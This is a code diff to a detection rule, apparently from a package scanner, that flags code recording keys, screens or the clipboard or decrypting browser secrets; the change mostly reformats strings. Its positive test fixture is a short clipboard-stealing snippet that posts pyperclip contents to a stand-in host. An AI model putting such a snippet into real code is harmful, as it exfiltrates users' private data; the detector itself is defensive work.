@@ -4,7 +4,7 @@ from __future__ import annotations
 
 from typing import TYPE_CHECKING
 
-from veln_hook.signals.source.rule import BY_ITSELF, HOLD, REVIEW, Hit, Rule
+from veln_hook.signals.source.rule import HOLD, Hit, Rule
 from veln_hook.source import vocabulary as v
 
 if TYPE_CHECKING:
@@ -24,13 +24,18 @@ def _find(view: View) -> Iterator[Hit]:
 
 RULE = Rule(
     name="spying",
-    description="It records keys, screens or the clipboard, or decrypts a browser's secrets, by itself or next to a request.",
+    description=(
+        "It records keys, screens or the clipboard, or decrypts a browser's secrets, by itself or next to "
+        "a request."
+    ),
     grade=HOLD,
     find=_find,
     fires={
-        "acme/__init__.py": "import pyperclip, requests\n\ndef go():\n    requests.post('https://example.test', data=pyperclip.paste())\n"
+        "acme/__init__.py": (
+            "import pyperclip, requests\n\ndef go():\n"
+            "    requests.post('https://example.test', data=pyperclip.paste())\n"
+        )
     },
     quiet={"acme/__init__.py": "import pyperclip\n\ndef paste():\n    return pyperclip.paste()\n"},
     rates="39 per 1,000 malicious clusters, none of 200 popular archives",
 )
-assert REVIEW and BY_ITSELF  # noqa: S101
